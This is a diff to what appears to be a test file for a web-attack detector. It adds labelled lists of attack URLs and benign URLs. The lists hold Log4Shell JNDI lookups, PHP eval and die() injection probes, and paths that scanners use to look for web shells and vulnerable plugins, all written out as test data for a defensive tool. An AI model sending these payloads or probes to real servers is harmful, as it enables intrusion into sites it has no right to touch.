@@ -26,6 +26,8 @@ ATTACKS = [
     "/?x=${jndi:ldap://198.51.100.9/a}",
     "/?x=%24%7Bjndi:ldap://198.51.100.9/a%7D",
     "/index.php?c=eval(base64_decode(%22ZWNobw%22))",
+    "/?cmd=die('===!'.'===');",
+    "/?q=die('z!a'.'x');&w=die('z!a'.'x');",
 ]
 CLEAN = [
     "/",
@@ -38,6 +40,8 @@ CLEAN = [
     "/etc/passwords-faq.html?from=blog",
     "/?s=..",
     "/wp-content/uploads/2016/05/photo...jpg",
+    "/search?q=solar+system+(planets)",
+    "/blog/2016/how-to-die-young/",
 ]
 
 
@@ -86,13 +90,16 @@ TARGETS = [
     "/wp-config.php~", "/backup.zip", "/dump.sql", "/license.php", "/readme.html",
     "/FCKeditor/editor/filemanager/connectors/test.html", "/c99.php", "/wp-content/up.php",
     "/wp-content/plugins/revslider/readme.txt", "/wp-content/uploads/shell.php",
-    "/cgi-bin/php5", "/server-status", "/phpinfo.php",
+    "/cgi-bin/php5", "/server-status", "/phpinfo.php", "/wp-content/plugins/revslider/",
+    "/components/com_jnews/includes/", "/shop/admin/banner_manager.php", "/joomla",
+    "/admin/Cms_Wysiwyg/directive/index/", "/admin/spaw/spacer.gif",
 ]
 NOT_TARGETS = [
     "/", "/blog/2016/05/admin-tips/", "/administration-fees.html", "/tags/mysql/",
     "/wp-content/uploads/2016/05/photo.jpg", "/wp-content/plugins/jetpack/css/jetpack.css",
     "/files/backup-howto.html", "/configure", "/products/shell-oil", "/user/4411",
-    "/readme-first/", "/blog/git-tips/",
+    "/readme-first/", "/blog/git-tips/", "/wp-content/plugins/jetpack/modules/x.js",
+    "/blog/components/", "/joomla-tips/",
 ]
 
 
